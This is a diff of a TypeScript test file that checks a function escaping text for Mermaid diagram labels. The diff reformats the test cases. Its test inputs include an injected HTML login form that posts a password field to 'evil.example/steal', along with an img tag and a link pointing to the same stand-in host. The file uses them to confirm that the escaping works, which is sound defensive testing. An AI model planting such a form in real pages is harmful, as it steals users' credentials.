@@ -18,8 +18,11 @@ const cases: [name: string, input: string, expected: string][] = [
   ['backtick cannot start a markdown string', '`**bold**`', '#96;**bold**#96;'],
   ['backslash', 'a\\nb', 'a#92;nb'],
   ['control characters become one space', 'a\n\r\tb', 'a b'],
-  ['the reported form', "<form action='https://evil.example/steal' method='post'><input name='pw'><button>Log in</button></form>",
-    "#60;form action='https://evil.example/steal' method='post'#62;#60;input name='pw'#62;#60;button#62;Log in#60;/button#62;#60;/form#62;"],
+  [
+    'the reported form',
+    "<form action='https://evil.example/steal' method='post'><input name='pw'><button>Log in</button></form>",
+    "#60;form action='https://evil.example/steal' method='post'#62;#60;input name='pw'#62;#60;button#62;Log in#60;/button#62;#60;/form#62;",
+  ],
 ];
 
 describe('mermaidLabelText', () => {
@@ -50,7 +53,7 @@ traffic:
         'flowchart LR',
         '  c0["Mallory #34;#60;img src=//evil.example/c.png#62;#34;"] --> gw',
         '  gw{{"gateway (envoy)"}}',
-        "  gw --> r0[\"#60;a href='https://evil.example'#62;Log in#60;/a#62;\"]",
+        '  gw --> r0["#60;a href=\'https://evil.example\'#62;Log in#60;/a#62;"]',
         '  r0 --> s__b_svc__b_',
         '  s__b_svc__b_["#60;b#62;svc#60;/b#62; ×1"]',
       ].join('\n'),
